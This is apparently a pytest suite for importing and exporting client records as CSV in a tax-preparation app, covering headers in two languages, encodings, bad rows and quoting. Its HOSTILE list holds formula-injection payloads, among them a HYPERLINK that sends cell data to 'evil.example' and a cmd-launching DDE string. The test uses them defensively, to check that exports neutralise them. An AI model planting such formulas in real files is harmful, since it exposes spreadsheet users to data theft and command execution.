"""Clients from and to CSV: English and French headers, bad rows, duplicates, BOM, spreadsheets."""

from __future__ import annotations

import pytest

from store import ClientQuery
from store.client_csv import ClientFileError, export_clients, import_plan, read_plan
from tests.harness import on_sqlite, running, settle, sign_in, type_text
from tests.helpers import PASSWORD, add_client, make_preparer
from tui.screens.client_files import ImportClientsScreen


@pytest.fixture
async def firm(store):
    return await make_preparer(store)


def write(tmp_path, text: str, name="clients.csv", encoding="utf-8") -> object:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


async def names(store, firm) -> list[str]:
    q = ClientQuery(firm_id=firm.firm_id, tax_year=2025, include_inactive=True)
    return [r.display_name for r in await store.clients.page(q, 0, 1000)]


async def test_english_headers_bad_rows_and_duplicates(store, firm, tmp_path):
    await add_client(store, firm.firm_id, first_name="Old", last_name="Timer",
                     email="old@example.com")
    path = write(tmp_path, "First Name,Last Name,Company,E-mail,Phone,Language,Notes\n"
                 "Emily,Smith,,emily@example.com,416-555-0100,English,vip\n"
                 ",,Acme Ltd,info@acme.ca,,fr,\n"
                 "John,,,john@example.com,,,\n"
                 "Jane,Doe,,not-an-email,,,\n"
                 "Bob,Lee,,bob@example.com,12,,\n"
                 "Emily,Smith,,EMILY@example.com,,,\n"
                 "Old,Timer,,old@example.com,,,\n"
                 "Ann,Wu,,ann@example.com,,klingon,\n")
    plan = await read_plan(store, firm.firm_id, path)
    assert sorted(plan.mapping.values()) == ["email", "first_name", "language", "last_name",
                                             "organization_name", "phone"]
    assert plan.ignored_columns == ["Notes"]
    assert [(b.line, b.reason) for b in plan.bad] == [
        (4, "last_name: required"), (5, "email: email_invalid"), (6, "phone: phone_invalid"),
        (9, "language: language_invalid")]
    assert plan.duplicates_in_file == [7] and plan.duplicates_existing == [8]
    assert await names(store, firm) == ["Timer, Old"]  # a preview writes nothing
    assert await import_plan(store, firm.firm_id, plan, firm.id) == 2
    assert sorted(await names(store, firm)) == ["Acme Ltd", "Smith, Emily", "Timer, Old"]
    acme = [r for r in await store.clients.page(
        ClientQuery(firm_id=firm.firm_id, tax_year=2025), 0, 10) if r.display_name == "Acme Ltd"]
    assert acme[0].kind == "organization" and acme[0].language == "fr"


async def test_french_semicolon_spreadsheet_export_with_bom_and_windows_1252(
        store, firm, tmp_path):
    text = ("\ufeffPrénom;Nom;Entreprise;Courriel;Téléphone;Langue\n"
            "Émilie;Gagnon;;emilie@exemple.ca;(418) 555-0101;Français\n"
            ";;Plomberie Côté Inc.;info@cote.ca;;français\n")
    plan = await read_plan(store, firm.firm_id, write(tmp_path, text))
    assert plan.delimiter == ";" and plan.encoding == "utf-8" and not plan.bad
    assert [c.language for _line, c in plan.ready] == ["fr", "fr"]
    assert plan.ready[0][1].first_name == "Émilie"  # the BOM is not part of the first header
    ansi = await read_plan(store, firm.firm_id, write(
        tmp_path, text.lstrip("\ufeff"), name="excel.csv", encoding="cp1252"))
    assert ansi.encoding == "cp1252" and ansi.ready[0][1].first_name == "Émilie"


async def test_nothing_is_half_imported(store, firm, tmp_path):
    plan = await read_plan(store, firm.firm_id, write(
        tmp_path, "first name,last name,email\nA,B,a@example.com\nC,D,c@example.com\n"))
    await add_client(store, firm.firm_id, first_name="X", last_name="Y", email="x@example.com")
    from store.validate import CleanClient

    plan.ready.append((9, CleanClient("individual", "z@example.com", "Z", "Z", "", None, "xx")))
    with pytest.raises(Exception):  # noqa: B017 - the database refuses the bad language
        await import_plan(store, firm.firm_id, plan, firm.id)
    assert await names(store, firm) == ["Y, X"]


async def test_export_round_trips(store, firm, tmp_path):
    for first, last, language in (("Émilie", "Gagnon", "fr"), ("John", "O'Brien", "en")):
        await add_client(store, firm.firm_id, first_name=first, last_name=last,
                         email=f"{first.lower()}@example.com", language=language,
                         phone="418 555 0100")
    await add_client(store, firm.firm_id, organization_name="Acme, \"Ltd\"",
                     email="acme@example.com")
    path = tmp_path / "export.csv"
    q = ClientQuery(firm_id=firm.firm_id, tax_year=2025)
    assert await export_clients(store, q, path) == 3
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    from store import Store

    elsewhere = await Store.open(str(tmp_path / "elsewhere.db"))  # another firm's database
    try:
        other = await make_preparer(elsewhere, username="luc", firm="Autre cabinet")
        plan = await read_plan(elsewhere, other.firm_id, path)
        assert not plan.bad and len(plan.ready) == 3
        await import_plan(elsewhere, other.firm_id, plan, other.id)
        again = tmp_path / "again.csv"
        await export_clients(elsewhere, ClientQuery(firm_id=other.firm_id, tax_year=2025),
                             again)
    finally:
        await elsewhere.close()
    assert again.read_text(encoding="utf-8-sig") == path.read_text(encoding="utf-8-sig")


async def test_unreadable_files_are_refused(store, firm, tmp_path):
    with pytest.raises(ClientFileError):
        await read_plan(store, firm.firm_id, tmp_path / "missing.csv")
    with pytest.raises(ClientFileError):
        await read_plan(store, firm.firm_id, write(tmp_path, "", name="empty.csv"))
    plan = await read_plan(store, firm.firm_id, write(tmp_path, "foo,bar\n1,2\n", name="x.csv"))
    assert plan.missing and not plan.ready


@on_sqlite
async def test_import_from_the_app_shows_a_preview_first(store, firm, tmp_path):
    path = write(tmp_path, "prénom,nom,courriel\nÉmilie,Gagnon,emilie@example.com\n"
                           "Jean,,jean@example.com\n")
    async with running(store) as pilot:
        await sign_in(pilot, "marie", PASSWORD)
        await pilot.press("I")
        await settle(pilot)
        screen = pilot.app.screen
        assert isinstance(screen, ImportClientsScreen)
        await type_text(pilot, str(path))
        await pilot.press("enter")
        await settle(pilot)
        preview = str(screen.query_one("#preview").render())
        assert "1 client to add; 1 row with errors" in preview and "line 3" in preview
        assert await names(store, firm) == []  # nothing written yet
        await pilot.press("ctrl+s")
        await settle(pilot)
    assert await names(store, firm) == ["Gagnon, Émilie"]


HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+2", "Plain & Co"]


async def test_export_cells_never_run_as_formulas_and_import_back_unchanged(
        store, firm, tmp_path):
    import csv

    for n, name in enumerate(HOSTILE):
        await add_client(store, firm.firm_id, organization_name=name, email=f"h{n}@x.ca",
                         phone="+1 514 555 0199")
    q = ClientQuery(firm_id=firm.firm_id, tax_year=2025, include_inactive=True)
    path = tmp_path / "out.csv"
    await export_clients(store, q, path)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    stored = sorted(await names(store, firm))
    assert any(n.startswith("=") for n in stored)  # the name itself is kept as typed

    from store import Store

    elsewhere = await Store.open(str(tmp_path / "elsewhere.db"))
    try:
        other = await make_preparer(elsewhere)
        plan = await read_plan(elsewhere, other.firm_id, path)
    finally:
        await elsewhere.close()
    assert not plan.bad and len(plan.ready) == len(HOSTILE)
    assert sorted(c.organization_name for _line, c in plan.ready) == stored
    assert {c.phone for _line, c in plan.ready} == {"+15145550199"}


async def test_a_file_mixing_utf8_and_windows_1252_is_refused_at_the_line(
        store, firm, tmp_path):
    path = tmp_path / "mixed.csv"
    path.write_bytes("organization_name,email\nÉmilie Roy,e@x.ca\n".encode() +
                     "Hélène Côté,h@x.ca\n".encode("cp1252"))
    with pytest.raises(ClientFileError, match="line 3"):
        await read_plan(store, firm.firm_id, path)
    assert await names(store, firm) == []


async def test_a_huge_field_is_refused_with_its_line(store, firm, tmp_path):
    path = tmp_path / "huge.csv"
    path.write_text("organization_name,email\nRoy,r@x.ca\n" + "x" * 140_000 + ",h@x.ca\n")
    with pytest.raises(ClientFileError, match="line 3"):
        await read_plan(store, firm.firm_id, path)


async def test_an_unclosed_quote_is_a_broken_row_and_the_rows_after_it_import(
        store, firm, tmp_path):
    """A stray quote read on into the next rows (to the next quote, or the end of the file):
    those clients vanished without a word. The row is reported with its line; the rest
    import; a line break inside a quoted column that is not imported (a note) stays fine."""
    path = write(tmp_path, "First Name,Last Name,Email,Notes\n"
                 'Emily,"Smith,emily@example.com,\n'
                 "Jean,Roy,jean@example.com,\n"
                 'Ann,Wu,ann@example.com,"two\nlines, fine"\n'
                 'Luc,"Côté,luc@example.com,\n'
                 'Zoé,Bé,zoe@example.com,"closed"\n'
                 "Max,Nord,max@example.com,\n")
    plan = await read_plan(store, firm.firm_id, path)
    assert [(b.line, b.reason) for b in plan.bad] == [(2, "quote_unclosed"),
                                                      (6, "quote_unclosed")]
    assert [(line, c.email) for line, c in plan.ready] == [
        (3, "jean@example.com"), (5, "ann@example.com"), (7, "zoe@example.com"),
        (8, "max@example.com")]
    assert await import_plan(store, firm.firm_id, plan, firm.id) == 4


async def test_an_unclosed_quote_says_so_in_the_preview(store, firm, tmp_path):
    from linkdesk.import_preview import describe_plan

    path = write(tmp_path, 'First Name,Last Name,Email\nEmily,"Smith,emily@example.com\n'
                 "Jean,Roy,jean@example.com\n")
    plan = await read_plan(store, firm.firm_id, path)
    said = describe_plan(plan)
    assert "  line 2: A quotation mark on this line is never closed." in said, said
